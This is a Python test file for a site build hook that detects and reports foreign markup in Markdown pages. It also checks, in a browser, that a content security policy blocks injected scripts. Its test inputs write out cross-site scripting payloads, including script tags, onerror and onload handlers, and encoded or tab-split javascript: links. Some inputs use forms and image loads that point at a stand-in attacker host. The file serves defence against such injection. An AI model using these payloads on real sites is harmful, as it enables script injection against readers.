"""Foreign markup on a page: every script, frame and address of another site is told at its place, code is left alone."""

from pathlib import Path

import markdown
import pytest
from playwright.sync_api import Browser, Route

from hooks.page.foreign import foreign
from hooks.site.policy import guarded, inline_scripts
from hooks.text.problems import line_and_column
from tests.conftest import ROOT

EXTENSIONS = ["admonition", "attr_list", "footnotes", "md_in_html", "tables", "pymdownx.details", "pymdownx.superfences"]  # fmt: skip

SCRIPT = "no script runs on a page but the site's own; take it out"
FRAME = "a page shows no other page and no program in a frame; link to it: [words](address)"
STYLE = "a style loads nothing from another site; put the file beside the page"


def handler(name: str) -> str:
    return (
        f"'{name}' would be a script, and no script runs on a page but the site's own; take it out"
    )


def program(address: str) -> str:
    return f"an address that is a program, '{address}'; link to a page or a file"


def loaded(address: str) -> str:
    return f"'{address}' would be loaded from another site, which learns who reads; put the file beside the page"


def sent(address: str) -> str:
    return f"this form would send what readers type to '{address}'; link to that page instead"


def told(text: str) -> list[str]:
    html = markdown.markdown(text, extensions=EXTENSIONS)
    return [
        ":".join(map(str, (*line_and_column(text, one.at), one.message)))
        for one in foreign(html, text)
    ]


SCRIPTS = [
    ("words\n\n<script>alert(1)</script>", f"3:1:{SCRIPT}"),
    ("`<script>`, then <ScRiPt/x>alert(1)</script>", f"1:18:{SCRIPT}"),
    ('<script src="https://evil.example/x.js"></script>', f"1:1:{SCRIPT}"),
    ('<script type="module">a()</script>', f"1:1:{SCRIPT}"),
    ("# A title <script>a()</script>", f"1:11:{SCRIPT}"),
    ("<!--><script>a()</script>-->", f"1:1:{SCRIPT}"),
    ("<img src=x onerror=alert(1)>", f"1:12:{handler('onerror')}"),
    ("<svg/onload=alert(1)>", f"1:6:{handler('onload')}"),
    ("| a |\n|---|\n| <b OnClick='a()'>b</b> |", f"3:6:{handler('onclick')}"),
    ('[x](y.md){ onclick="a()" }', f"1:12:{handler('onclick')}"),
    ("<details ontoggle=a() open>x</details>", f"1:10:{handler('ontoggle')}"),
    ("[x](javascript:alert(1))", f"1:5:{program('javascript:alert(1)')}"),
    ("[x][1]\n\n[1]: JavaScript:alert(1)", f"3:6:{program('JavaScript:alert(1)')}"),
    ('<a href="&#106;avascript:a()">x</a>', f"1:10:{program('javascript:a()')}"),
    ('<a href="java\tscript:a()">x</a>', f"1:15:{program('java script:a()')}"),
    ("<a href='data:text/html,x'>x</a>", f"1:10:{program('data:text/html,x')}"),
    ("<svg><animate values='a;javascript:a()'/></svg>", f"1:23:{program('a;javascript:a()')}"),
]

OTHERS = [
    ("<iframe srcdoc='&lt;script>a()&lt;/script>'></iframe>", f"1:1:{FRAME}"),
    ("<iframe src='https://video.example'></iframe>", f"1:1:{FRAME}"),
    ("<object data=x.svg></object>", f"1:1:{FRAME}"),
    ("<embed src=x>", f"1:1:{FRAME}"),
    ("<base href='/x/'>", "1:1:'base' changes where all links of the page lead; take it out"),
    (
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "1:1:'meta' belongs into the head of a page, which front matter writes: title, description",
    ),
    (
        "<link rel=stylesheet href=x.css>",
        "1:1:'link' loads what is not of this page; write an ordinary link: [words](address)",
    ),
    ("<form action=https://evil.example><input></form>", f"1:14:{sent('https://evil.example')}"),
    ("<button formaction='//evil.example'>x</button>", f"1:21:{sent('//evil.example')}"),
    ("![a](https://evil.example/x.png)", f"1:6:{loaded('https://evil.example/x.png')}"),
    ("<img src='\\\\evil.example/x.png'>", f"1:11:{loaded(chr(92) * 2 + 'evil.example/x.png')}"),
    (
        "<img srcset='a.png 1x, //evil.example/x 2x'>",
        f"1:14:{loaded('a.png 1x, //evil.example/x 2x')}",
    ),
    ("<video poster='http://evil.example/x.png'></video>", f"1:16:{loaded('http://evil.example/x.png')}"),
    ("<svg><use href='https://evil.example/x.svg#a'/></svg>", f"1:17:{loaded('https://evil.example/x.svg#a')}"),
    ("<style>@import 'x';</style>", f"1:1:{STYLE}"),
    ("<style>p { background: url(//evil.example/x) }</style>", f"1:1:{STYLE}"),
    ("<p style='background: url(\"https://evil.example/x\")'>t</p>", f"1:4:{STYLE}"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "problem"), SCRIPTS + OTHERS)
def test_foreign_markup_is_told_at_its_place(text: str, problem: str) -> None:
    assert told(text) == [problem]


@pytest.mark.parametrize(
    "text",
    [
        "`<script>` and ``<img onerror=a()>``",
        "```html\n<script>a()</script>\n```",
        "    <script>a()</script>",
        "<!-- <script>a()</script> -->\n\nwords",
        "[elsewhere](https://example.org) and <https://example.org>",
        "![ours](a.png) <img src='data:image/png;base64,xx'>",
        "words: javascript: is a language, onclick= a word, 5 < 6 > 4",
        '<p title="javascript: the language">t</p>',
        "<style>p { color: red }</style>\n\n<p style='color: var(--ink)'>t</p>",
        "<form action='../search/'><input></form>",
        "<svg><use href='#a'/><a xlink:href='https://example.org'>x</a></svg>",
    ],
)
def test_what_is_ours_or_only_shown_is_left_alone(text: str) -> None:
    assert told(text) == []


def test_each_of_several_has_its_own_place() -> None:
    text = "<script>a</script>\n\n`<script>`\n\n<script>b</script>\n\n<i onclick=a()>x</i> <i onclick=b()>y</i>"
    assert [one.partition(":" + SCRIPT)[0][:4] for one in told(text)] == [
        "1:1",
        "5:1",
        "7:4:",
        "7:25",
    ]


def test_the_policy_allows_the_theme_s_scripts_and_no_others() -> None:
    theme = (ROOT / "hooks/theme/partials/javascripts/base.html").read_text("utf-8")
    own = theme[theme.index("<script>") :]
    pages = [
        f"<html><head>{own}</head><body>{more}</body></html>"
        for more in ("", "<script>evil()</script>")
    ]
    policies = [guarded(page).partition('content="')[2].partition('"')[0] for page in pages]
    assert policies[0] == policies[1]
    assert len(inline_scripts()) == 1
    assert f"script-src 'self' {inline_scripts()[0]}" in policies[0]


def test_no_foreign_script_runs_under_the_policy(browser: Browser) -> None:
    """Every input of this file on one page, as if nobody had looked: nothing runs, and the theme's own script does."""
    theme = (ROOT / "hooks/theme/partials/javascripts/base.html").read_text("utf-8")
    own = theme[theme.index("<script>") :]
    body = (
        "".join(
            markdown.markdown(text, extensions=EXTENSIONS)
            for text, _ in SCRIPTS + OTHERS
            if "refresh" not in text
        )
        .replace("alert(1)", "window.ran=1")
        .replace("a()", "window.ran=1")
    )
    html = guarded(
        f"<!doctype html><html><head>{own}</head><body>{body}<script>window.ran=1</script></body></html>"
    )
    page, asked = browser.new_page(), list[str]()

    def serve(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(
            body=html if route.request.url.endswith("/page") else "", content_type="text/html"
        )

    page.route("**/*", serve)
    page.goto("http://site.test/page")
    page.wait_for_timeout(200)
    assert page.evaluate("[window.ran, document.documentElement.className]") == [None, "js"]
    assert all(url.startswith(("http://site.test/", "data:")) for url in asked)
    page.close()


def test_the_theme_has_no_inline_script_elsewhere() -> None:
    """Another one would not run: the policy knows those of one folder."""
    for path in Path(ROOT / "hooks/theme").rglob("*.html"):
        text = path.read_text("utf-8")
        if path.parent.name != "javascripts":
            assert "<script>" not in text, path
